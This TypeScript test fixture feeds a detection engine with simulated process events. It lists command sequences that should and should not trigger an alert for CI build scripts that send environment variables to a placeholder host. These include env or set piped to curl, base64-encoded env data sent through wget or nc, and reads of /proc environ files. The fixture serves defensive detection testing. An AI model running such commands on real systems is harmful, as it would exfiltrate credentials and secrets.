import type { Samples, Sequences } from "../engine/signature.ts";

type Exec = Extract<Samples, { event: "process_exec" }>;

const exec = (
  process_key: number,
  parent_key: number,
  args: readonly [string, ...string[]],
  more: Partial<Exec> = {},
): Samples => ({
  ...{ event: "process_exec", process_key, parent_key, pid: 100 + process_key },
  ...{ path: `/usr/bin/${args[0]}`, args, cwd: "/w", args_bytes: args.join(" ").length, ...more },
});
const from = (inode: number) => ({ stdin_kind: "pipe", stdin_inode: inode }) as const;
const into = (inode: number) => ({ stdout_kind: "pipe", stdout_inode: inode }) as const;
const file = (inode: number) => ({ stdout_kind: "file", stdout_inode: inode }) as const;

const connects = (process_key: number, time_us = 20): Samples => ({
  ...{ event: "socket_connect", process_key, time_us, peer: "192.0.2.7:443" },
  ...{ family: "inet", type: "stream", error: 115 },
});
const reads = (process_key: number, path: string, inode: number): Samples => ({
  ...{ event: "file_open", process_key, path, inode, mode: 0o100600, access: "read", time_us: 15 },
});

const script = exec(1, 0, ["bash", "build.sh"]);
const environment = "PATH=/usr/bin\nHOME=/home/ci\nSHLVL=2\nPWD=/home/ci/actions-runner/work\nX=1";
const encoded = Buffer.from(environment).toString("base64");
const url = "https://203.0.113.9/upload";

export const fires: Sequences = [
  [script, exec(2, 1, ["env"], into(50)), exec(3, 1, ["curl", "-d@-", url], from(50)), connects(3)],
  // Whichever is first, and through filters.
  [
    ...[script, exec(4, 1, ["nc", "h", "1"], from(51)), connects(4)],
    exec(3, 1, ["base64"], { ...from(50), ...into(51) }),
    exec(2, 1, ["printenv"], into(50)),
  ],
  [script, exec(2, 1, ["curl", "-sm", "0.5", "-d", `origin <<< ENV ${environment}`, url])],
  [script, exec(2, 1, ["curl", "-d", encoded, url])],
  [script, exec(2, 1, ["wget", `${url}?q=${Buffer.from(encoded).toString("base64")}`])],
  [
    ...[script, exec(2, 1, ["env"], file(70)), exec(3, 1, ["curl", "-F", "file=@x", url])],
    ...[reads(3, "/w/x", 70), connects(3)],
  ],
  [script, exec(2, 1, ["python3", "x.py"]), reads(2, "/proc/102/environ", 9), connects(2)],
  [script, exec(2, 1, ["python3", "-c", "post(u, json=dict(os.environ))"]), connects(2)],
  [script, exec(2, 1, ["node", "-e", "post(JSON.stringify(process.env))"]), connects(2)],
  [
    exec(1, 0, ["bash", "-c", "set | curl -d @- $url"]),
    ...[exec(2, 1, ["curl", "-d", "@-", url], from(50)), connects(2)],
  ],
];

export const silent: Sequences = [
  [script, exec(2, 1, ["env"]), exec(3, 1, ["curl", "-F", "file=@coverage.xml", url]), connects(3)],
  [
    script,
    exec(2, 1, ["env", "A=1", "curl"], into(50)),
    exec(3, 1, ["cat"], from(50)),
    connects(2),
  ],
  [script, exec(2, 1, ["printenv", "HOME"], into(50)), exec(3, 1, ["nc"], from(50)), connects(3)],
  [script, exec(2, 1, ["env"], into(50)), exec(3, 1, ["grep", "PATH"], from(50)), connects(9)],
  [
    script,
    exec(2, 1, ["curl", "-d", '{"path": "/usr/bin", "user": "me", "home": 1, "x": 12}', url]),
  ],
  [script, exec(2, 1, ["curl", "-H", `Authorization: Bearer ${"abcdefghij".repeat(12)}`, url])],
  [script, exec(2, 1, ["python3", "-c", "run(x, env=dict(os.environ, A=1))"]), connects(2)],
  [
    exec(1, 0, ["bash", "-c", "set | grep A; echo {} | curl -d @- $url"]),
    ...[exec(2, 1, ["curl", "-d", "@-", url], from(50)), connects(2)],
  ],

  [script, exec(2, 1, ["python3", "-c", "get(os.environ['URL'])"]), connects(2)],
];
